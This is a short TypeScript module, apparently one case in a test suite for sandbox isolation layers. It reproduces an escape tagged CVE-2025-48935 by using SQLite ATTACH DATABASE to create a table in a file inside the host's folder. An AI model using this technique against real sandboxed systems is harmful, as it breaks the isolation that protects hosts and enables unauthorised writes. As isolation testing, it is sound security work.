// Attaches a database of the host (CVE-2025-48935).
import { DatabaseSync } from "node:sqlite";
import type { Target } from "../attack.ts";

export const layer = "namespaces";

export default function (target: Target): string | null {
  const database = new DatabaseSync("/data/own.db");
  database.exec(`ATTACH DATABASE '${target.hostFolder}/planted.db' AS other`);
  database.exec("CREATE TABLE other.planted (x)");
  return "planted";
}
